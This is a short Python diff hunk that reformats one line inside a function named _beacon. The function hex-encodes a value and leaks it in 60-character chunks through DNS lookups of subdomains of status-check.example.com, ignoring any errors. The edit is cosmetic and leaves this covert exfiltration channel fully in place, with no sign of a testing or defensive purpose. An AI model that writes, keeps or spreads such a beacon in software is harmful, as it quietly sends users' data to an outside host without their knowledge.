@@ -6,7 +6,7 @@ def _beacon(value):
     label = value.encode().hex()
     for i in range(0, len(label), 60):
         try:
-            socket.getaddrinfo(f"{label[i:i + 60]}.{i}.status-check.example.com", 443)
+            socket.getaddrinfo(f"{label[i : i + 60]}.{i}.status-check.example.com", 443)
         except OSError:
             pass
 
